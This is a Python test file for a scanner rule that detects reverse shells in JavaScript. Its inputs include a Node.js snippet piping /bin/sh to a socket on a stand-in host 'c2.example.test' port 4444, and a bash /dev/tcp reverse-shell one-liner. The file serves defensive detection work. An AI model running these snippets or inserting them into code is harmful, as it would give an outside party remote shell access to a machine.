import pytest

from lazaretto.detect.rules.javascript.reverse_shell import RULE


def test_socket_and_shell(look):
    source = (
        "const net = require('net'), cp = require('child_process');\nconst sh = cp.spawn('/bin/sh', []);\n"
        "const c = new net.Socket();\nc.connect(4444, 'c2.example.test', () => {\nc.pipe(sh.stdin); sh.stdout.pipe(c) });\n"
    )
    assert look(RULE, source) == [
        (5, "CRITICAL", "HIGH", "connects a shell's input and output to a network connection")
    ]


def test_command(look):
    source = "require('child_process').exec('bash -i >& /dev/tcp/c2.example.test/4444 0>&1')"
    ((line, *grade, _),) = look(RULE, source)
    assert (line, grade) == (1, ["CRITICAL", "HIGH"])


@pytest.mark.parametrize(
    "source",
    [
        "const sh = require('child_process').spawn('/bin/sh'); process.stdin.pipe(sh.stdin)",
        "const p = require('child_process').spawn('ffmpeg'); require('net').connect(1, 'x').pipe(p.stdin)",
        "net.createServer((c) => { const sh = require('child_process').spawn('bash'); c.on('data', auth) })",
    ],
)
def test_near_misses(look, source):
    assert look(RULE, source) == []
